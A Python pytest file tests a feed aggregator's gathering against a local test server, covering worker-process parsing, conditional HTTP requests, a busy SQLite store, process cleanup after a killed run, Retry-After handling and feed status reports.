@pytest.mark.parametrize("workers", [0, 2])
def test_parsing_inline_or_in_worker_processes_gives_the_same_result(
    server: FeedServer, tmp_path: Path, caplog: pytest.LogCaptureFixture, workers: int
) -> None:
    urls = []
    for n in range(9):
        server[f"/f{n}.xml"] = Route(
            rss(f"feed {n}", [item(n * 10 + i, f"p{n}-{i}") for i in range(3)]).encode()
        )
        urls.append(server.url(f"/f{n}.xml"))
    server["/future.xml"] = Route(
        rss("future", [item(99, "ahead", pubDate="Tue, 01 Jan 2036 00:00:00 +0000")]).encode()
    )
    server["/crash.xml"] = FAILURES["feedparser crashes"][0]
    urls += [server.url("/future.xml"), server.url("/crash.xml")]

    with Store(tmp_path / f"pool{workers}.sqlite3") as store, caplog.at_level(logging.WARNING):
        report = gather(make_settings(urls), store, NOW, parse_workers=workers)
        posts = all_posts(store)
    results = by_url(report)
    assert report.new_posts == 28 and len(posts) == 28
    assert results[server.url("/crash.xml")].status == FAILED
    assert "unexpected error: UnicodeEncodeError" in (results[server.url("/crash.xml")].error or "")
    assert [r.title for r in report.results[:3]] == ["feed 0", "feed 1", "feed 2"]
    # Log lines written while parsing (in a worker or not) reach this process's logging.
    future_logs = [r for r in caplog.records if "future" in r.getMessage()]
    assert len(future_logs) == 1 and server.url("/future.xml") in future_logs[0].getMessage()
    assert future_logs[0].name == "digest.fetch.normalize"
    crash_logs = [r for r in caplog.records if server.url("/crash.xml") in r.getMessage()]
    assert crash_logs


# -- the test server itself ------------------------------------------------------


def test_feed_server_answers_conditional_requests(tmp_path: Path) -> None:
    with FeedServer(delay=0.2) as server, httpx.Client() as client:
        server["/f.xml"] = Route(GOOD)
        url = server.url("/f.xml")
        first = client.get(url)
        assert first.status_code == 200 and first.content == GOOD
        etag, modified = first.headers["etag"], first.headers["last-modified"]
        assert client.get(url, headers={"If-None-Match": etag}).status_code == 304
        assert client.get(url, headers={"If-None-Match": '"other"'}).status_code == 200
        assert client.get(url, headers={"If-Modified-Since": modified}).status_code == 304
        older = "Mon, 01 Jan 2001 00:00:00 GMT"
        assert client.get(url, headers={"If-Modified-Since": older}).status_code == 200
        # If-None-Match decides alone when both are sent (RFC 9110).
        both = {"If-None-Match": '"other"', "If-Modified-Since": modified}
        assert client.get(url, headers=both).status_code == 200
        started = time.monotonic()
        assert client.get(url, headers={"If-None-Match": etag}).status_code == 304
        assert time.monotonic() - started >= 0.2  # the global delay applies to 304s too
        assert client.head(url).status_code == 200
        assert client.get(server.url("/missing")).status_code == 404
        assert server.hits("/f.xml") == [200, 304, 200, 304, 200, 200, 304, 200]
        assert len(server.requests) == 9

        (tmp_path / "sub").mkdir()
        (tmp_path / "a.xml").write_bytes(GOOD)
        (tmp_path / "sub" / "b.atom").write_bytes(CHINESE_ATOM)
        urls = server.serve_directory(tmp_path, prefix="/dir")
        assert urls == [server.url("/dir/a.xml"), server.url("/dir/sub/b.atom")]
        answer = client.get(urls[1])
        assert answer.content == CHINESE_ATOM
        assert answer.headers["content-type"] == "application/atom+xml"


def test_now_must_be_aware(store: Store) -> None:
    with pytest.raises(ValueError, match="aware"):
        gather(make_settings([]), store, datetime(2026, 3, 2))


# -- a busy database, a killed gather ------------------------------------------------


def test_a_busy_database_stops_the_run_and_fails_no_feed(
    server: FeedServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sqlite3

    import digest.state.store as store_module
    from digest.errors import StoreError

    monkeypatch.setattr(store_module, "BUSY_TIMEOUT", 0.3)  # the test's patience, not 30 s
    server["/a.xml"] = Route(GOOD)
    server["/b.xml"] = Route(JAPANESE)
    urls = [server.url("/a.xml"), server.url("/b.xml")]
    path = tmp_path / "busy.sqlite3"
    with Store(path) as store:
        holder = sqlite3.connect(path, isolation_level=None)
        holder.execute("BEGIN IMMEDIATE")  # another process's long write, as SQLite sees it
        try:
            with pytest.raises(StoreError):
                gather(make_settings(urls), store, NOW)
        finally:
            holder.execute("ROLLBACK")
            holder.close()
        # Nothing was counted against the feeds: the next run is an ordinary one.
        assert all(store.feed_state(u).failures == 0 for u in urls)
        assert all(store.feed_state(u).last_error is None for u in urls)
        report = gather(make_settings(urls), store, NOW)
    assert [r.status for r in report.results] == [OK, OK] and report.new_posts == 4


def _children() -> dict[int, list[int]]:
    tree: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text("ascii", "replace")
        except OSError:
            continue
        fields = stat.rpartition(")")[2].split()
        tree.setdefault(int(fields[1]), []).append(int(entry.name))
    return tree


def _descendants(pid: int) -> list[int]:
    tree, found, todo = _children(), [], [pid]
    while todo:
        for child in tree.get(todo.pop(), []):
            found.append(child)
            todo.append(child)
    return found


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_a_killed_gather_leaves_no_process_behind(server: FeedServer, tmp_path: Path) -> None:
    import os
    import signal
    import subprocess
    import sys

    from digest.fetch import lifeline
    from digest.fetch.workers import auto_workers

    if auto_workers(12) == 0:
        pytest.skip("one CPU: gather parses inline and starts no process to leave behind")
    feeds = []
    for n in range(11):
        server[f"/f{n}.xml"] = Route(rss(f"f{n}", [item(n, f"post {n}")]).encode())
        feeds.append(server.url(f"/f{n}.xml"))
    server["/slow.xml"] = Route(GOOD, delay=60.0)  # keeps gather busy until it is killed
    feeds.append(server.url("/slow.xml"))
    config = tmp_path / "digest.toml"
    config.write_text(
        "".join(f'[[feeds]]\nurl = "{u}"\n' for u in feeds)
        + f'[storage]\npath = "{tmp_path.as_posix()}/db.sqlite3"\n'
        + '[gather]\ntimeout = 90\ntotal_timeout = 90\nallow_private = ["127.0.0.1"]\n'
    )
    gather_process = subprocess.Popen(
        [sys.executable, "-m", "digest", "--config", str(config), "gather"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        # Wait for the fork server, the resource tracker and the parser workers.
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            family = _descendants(gather_process.pid)
            if len(family) >= 4 and len(server.hits("/f10.xml")) == 1:
                break
            time.sleep(0.1)
        family = _descendants(gather_process.pid)
        assert len(family) >= 3, family  # fork server, resource tracker, a worker at least
        identities = {pid: lifeline.process_identity(pid) for pid in family}
        os.kill(gather_process.pid, signal.SIGKILL)
        gather_process.wait()
        killed = time.monotonic()
        left = list(identities)
        while left and time.monotonic() - killed < 5:
            time.sleep(0.05)
            left = [pid for pid in left if lifeline.alive(pid, identities[pid])]
        assert left == [], f"still running after 5 s: {left}"
        print(f"{len(family)} processes gone {time.monotonic() - killed:.2f} s after SIGKILL")
    finally:
        if gather_process.poll() is None:
            gather_process.kill()
            gather_process.wait()


@pytest.mark.slow
def test_a_run_where_nothing_changed_starts_no_process_and_no_parser(
    server: FeedServer, tmp_path: Path
) -> None:
    import subprocess
    import sys

    feeds = []
    for n in range(12):  # enough for parser workers (POOL_MIN_FEEDS)
        server[f"/f{n}.xml"] = Route(rss(f"f{n}", [item(n, f"post {n}")]).encode())
        feeds.append(server.url(f"/f{n}.xml"))
    config = tmp_path / "digest.toml"
    config.write_text(
        "".join(f'[[feeds]]\nurl = "{u}"\n' for u in feeds)
        + f'[storage]\npath = "{tmp_path.as_posix()}/db.sqlite3"\n'
        + '[gather]\nallow_private = ["127.0.0.1"]\n'
    )
    # As a user runs it: each run a process of its own.
    script = f"""
import multiprocessing, multiprocessing.forkserver, sys
from datetime import UTC, datetime
from pathlib import Path
from digest.config import load_settings
from digest.fetch.gather import gather
from digest.state.store import Store
settings = load_settings(Path({str(config)!r}))
with Store(settings.storage_path) as store:
    report = gather(settings, store, datetime.now(UTC))
print(sorted({{r.status for r in report.results}}))
print("feedparser" in sys.modules, multiprocessing.active_children(),
      multiprocessing.forkserver._forkserver._forkserver_pid)
"""
    runs = [
        subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
        for _ in range(2)
    ]
    assert runs[0].stdout.splitlines()[0] == "['ok']", runs[0].stderr
    assert runs[1].stdout.splitlines() == ["['not_modified']", "False [] None"], runs[1].stderr


# -- HTTP manners and `digest feeds`, in pieces ------------------------------------------


def test_retry_after_in_seconds_or_as_a_date_capped_at_a_day() -> None:
    from digest.fetch.fetcher import retry_after

    assert retry_after("120", NOW) == NOW + timedelta(seconds=120)
    assert retry_after(" 0 ", NOW) is None  # now: no wait
    assert retry_after("Mon, 02 Mar 2026 11:30:00 GMT", NOW) == NOW + timedelta(hours=2)
    assert retry_after("Mon, 02 Mar 2026 08:00:00 GMT", NOW) is None  # in the past
    assert retry_after("99999999999999999999", NOW) == NOW + timedelta(days=1)
    assert retry_after("Fri, 31 Dec 9999 23:59:59 GMT", NOW) == NOW + timedelta(days=1)
    assert retry_after("soon", NOW) is None and retry_after(None, NOW) is None


def test_only_the_first_entries_of_a_huge_body_are_read() -> None:
    from digest.fetch.parse import cut_entries

    body = rss("big", [item(n, f"t{n}") for n in range(10)]).encode()
    cut, total = cut_entries(body, 3)
    assert total == 10 and cut.count(b"<item>") == 3
    assert cut.endswith(b"</channel></rss>\n") and b"t2<" in cut and b"t3<" not in cut
    assert cut_entries(body, 10) == (body, 10)


def test_feed_statuses_for_digest_feeds(server: FeedServer, store: Store) -> None:
    from digest.fetch.status import feed_statuses, status_lines

    server["/ok.xml"] = Route(GOOD)
    server["/404.xml"] = Route(b"", status=404)
    server["/410.xml"] = Route(b"", status=410)
    server["/429.xml"] = Route(b"", status=429, headers={"Retry-After": "3600"})
    server["/old.xml"] = Route(b"", status=301, headers={"Location": "/ok.xml"})
    paths = ["/ok.xml", "/404.xml", "/410.xml", "/429.xml", "/old.xml", "/never.xml"]
    urls = [server.url(p) for p in paths]
    settings = make_settings(urls[:-1])
    gather(settings, store, NOW)
    every = make_settings(urls)
    statuses = feed_statuses(every.feeds, store.feed_states(urls), NOW)
    assert [s.status for s in statuses] == ["ok", "failing", "gone", "waiting", "ok", "new"]
    assert statuses[4].fetched_from == urls[0] and statuses[4].moved_to == urls[0]
    assert status_lines(statuses) == [
        f"ok      {urls[0]}: last fetched 2026-03-02 09:30 UTC",
        f"failing {urls[1]}: once: failed: HTTP 404 Not Found; never fetched",
        f"gone    {urls[2]}: since 2026-03-02 09:30 UTC: gone: HTTP 410 Gone; no longer polled",
        f"waiting {urls[3]}: until 2026-03-02 10:30 UTC (waiting until 2026-03-02 10:30 UTC: "
        "HTTP 429 Too Many Requests)",
        f"ok      {urls[4]}: last fetched 2026-03-02 09:30 UTC (warning: moved permanently: "
        f"{urls[4]} → {urls[0]}; fetching the new address from now on (update the config)); "
        f"moved to {urls[0]}",
        f"new     {urls[5]}: not fetched yet",
        "6 feeds: 2 ok, 1 failing, 1 gone, 1 waiting, 1 new",
    ]
    # A gone feed is not asked again; the waiting one neither, until its time.
    server.reset_log()
    report = gather(settings, store, NOW + timedelta(minutes=30))
    assert sorted(p for _, p, _ in server.requests) == ["/404.xml", "/ok.xml", "/ok.xml"]
    assert [r.status for r in report.results] == [
        NOT_MODIFIED, FAILED, "gone", "waiting", NOT_MODIFIED,
    ]  # fmt: skip
    assert report.summary_lines()[-1] == (
        "5 feeds: 0 fetched, 2 not modified, 1 failed, 1 gone, 1 waiting; 0 entries, 0 new posts"
    )
    later = gather(settings, store, NOW + timedelta(hours=2))
    assert [r.status for r in later.results][3] == "waiting"  # asked again: 429 again
    assert server.hits("/429.xml") == [429]


# -- stores of several feeds at once, the gather process's imports -------------------


def test_feeds_recorded_together_are_one_transaction(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    import asyncio

    from digest.fetch.gather import _Writes
    from digest.state.store import FeedOk

    batches: list[list[str]] = []
    real = store.record_fetched

    def spy(feeds: list[FeedOk]) -> list[int]:
        batches.append([f.url for f in feeds])
        return real(feeds)

    monkeypatch.setattr(store, "record_fetched", spy)
    urls = [f"https://{n}.example/feed" for n in "abc"]
    posts = [Post(u, "g1", f"{u}/1", "t", "s", NOW, NOW) for u in urls]  # one new post each

    async def run() -> list[int]:
        writes = _Writes(store)
        cancelled = asyncio.ensure_future(writes.record(FeedOk("https://d.example/", NOW)))
        together = [
            writes.record(FeedOk(u, NOW, [p], etag='"e"')) for u, p in zip(urls, posts, strict=True)
        ]
        await asyncio.sleep(0)  # `cancelled` is waiting for the commit now
        cancelled.cancel()
        return list(await asyncio.gather(*together))

    assert asyncio.run(run()) == [1, 1, 1]
    assert batches == [urls]  # one commit; the cancelled feed is not written
    assert all(store.feed_state(u).etag == '"e"' for u in urls)
    assert store.feed_state("https://d.example/").last_ok is None

    def broken(feeds: list[FeedOk]) -> list[int]:
        raise sqlite3.OperationalError("disk I/O error")

    monkeypatch.setattr(store, "record_fetched", broken)

    async def fail() -> list[BaseException | int]:
        writes = _Writes(store)
        return await asyncio.gather(
            *(writes.record(FeedOk(u, NOW)) for u in urls), return_exceptions=True
        )

    # The store's error reaches every feed of the transaction.
    assert all(isinstance(e, sqlite3.OperationalError) for e in asyncio.run(fail()))


def test_results_from_the_parser_processes_need_no_feedparser_here() -> None:
    # A worker's `Parsed` is unpickled by its class's module: the gather process
    # must not import feedparser and the parsing stack (~0.15 s) to read it.
    import pickle
    import subprocess
    import sys

    from digest.fetch.fetched import Parsed

    blob = pickle.dumps(Parsed([Post("u", "g", "l", "t", "s", NOW, NOW)], 1, "T"))
    code = (
        "import pickle, sys; parsed = pickle.loads(sys.stdin.buffer.read()); "
        "assert parsed.posts[0].title == 't', parsed; "
        "print(sorted(m for m in sys.modules if m.startswith(('feedparser', 'digest.fetch.'))))"
    )
    done = subprocess.run([sys.executable, "-c", code], input=blob, capture_output=True, check=True)
    assert done.stdout.decode().strip() == "['digest.fetch.fetched']"
